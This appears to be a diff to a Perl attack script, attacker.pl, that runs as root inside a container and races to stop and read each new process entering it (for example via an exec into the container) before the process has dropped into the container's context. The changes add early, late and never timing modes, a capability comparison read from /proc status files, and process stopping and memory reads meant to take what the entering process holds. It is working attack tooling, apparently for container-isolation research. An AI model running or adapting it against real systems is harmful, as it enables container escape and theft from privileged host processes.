@@ -1,9 +1,11 @@
 # The root of a container at work on every process that appears in it. It goes on until /stop is
 # there and says how many it met before they had become the container's program, and what it got.
-#   perl attacker.pl NAMES [stop]    NAMES: the container's programs, a|b; stop: stops each first
+#   perl attacker.pl NAMES early|late|never    NAMES: the container's programs, a|b
+# early: stops each process at once; late: when it has no more rights than we have; never: attacks it as it runs.
 use constant { BASE => 0x10000000, ATTACH => 16, DETACH => 17, PTRACE => 101, ANY => 0x40000000 };
 $| = 1;
-my ($names, $stop) = @ARGV;
+my ($names, $when) = @ARGV;
+my $stop = $when ne 'never';
 my $own = qr/^(?:$names)$/;
 my ($met, $caught, $next) = (0, 0, $$ + 1);
 my %told;
@@ -24,11 +26,29 @@ sub got {
   print "got $what of ", comm($pid), "\n" unless $told{$what =~ s/\d+/N/r}++;
 }
 
+sub rights {
+  open(my $file, '<', "/proc/$_[0]/status") or return '';
+  while (<$file>) { return $1 if /^CapPrm:\s*(\S+)/ }
+  return '';
+}
+
+my $ours = rights($$);
+
+# Whether it is there, and stopped if it shall be.
+sub meet {
+  my $pid = shift;
+  return kill($when eq 'early' ? 'STOP' : 0, $pid) if $when ne 'late';
+  return 0 unless kill(0, $pid);
+  until (rights($pid) eq $ours || !foreign($pid)) { }
+  return kill('STOP', $pid);
+}
+
 sub content {
   my ($pid, $name, $at) = @_;
   sysopen(my $file, "/proc/$pid/$name", 04000) or return undef;
   sysseek($file, $at, 0) if $at;
-  return sysread($file, my $bytes, 4096) ? $bytes : undef;
+  my $bytes;
+  return sysread($file, $bytes, 4096) ? $bytes : undef;
 }
 
 sub memory {
@@ -77,9 +97,10 @@ sub last_pid {
   return (split ' ', <$file>)[4];
 }
 
+print "ready\n";
 until (-e '/stop') {
   for (1 .. 400) {
-    next unless kill($stop ? 'STOP' : 0, $next);
+    next unless meet($next);
     attack($next) if $next != $$;
     kill('CONT', $next) if $stop;
     $next++;
